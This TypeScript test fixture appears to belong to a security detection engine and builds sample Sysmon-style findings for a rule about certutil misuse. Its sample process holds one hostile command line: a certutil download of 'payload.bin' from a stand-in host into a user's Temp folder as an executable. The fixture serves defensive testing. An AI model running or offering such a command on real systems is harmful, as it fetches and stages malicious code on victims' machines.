import type { FindingKey as Finding } from '@casement/engine';

interface Sample {
  readonly seconds: number;
  readonly rule: string;
  readonly host?: string;
  readonly event?: object;
}

const BASE_SECONDS = 1_719_306_680;

/** A finding with a backend event of the usual shape; `event` overrides its top-level blocks. */
export function sampleFinding({ seconds, rule, host = 'WS01.corp.example', event = {} }: Sample): Finding {
  const line = JSON.stringify({
    agent: { rule_id: rule },
    title: 'Certutil was executed to transmit or decode a file',
    evt: { name: 'exec', category: 'Process Activity' },
    process: sampleProcess({ pid: 4312 + seconds }),
    usr: { name: 'CORP\\bob' },
    ...event,
  });
  const time = BigInt(BASE_SECONDS + seconds) * 1_000_000_000n + 123_456_700n;
  return { time, host, file: 'Sysmon.evtx', recordId: BigInt(seconds), rule, line, rest: '' };
}

export function sampleProcess(overrides: object): object {
  return {
    pid: 4312,
    executable: { path: 'C:\\Windows\\System32\\certutil.exe', name: 'certutil.exe' },
    cmdline:
      'certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe',
    user: 'CORP\\bob',
    ancestors: [
      { pid: 4242, executable: { name: 'powershell.exe' } },
      { pid: 900, executable: { name: 'cmd.exe' } },
      { pid: 700, executable: { name: 'explorer.exe' } },
      { pid: 612 },
    ],
    ...overrides,
  };
}
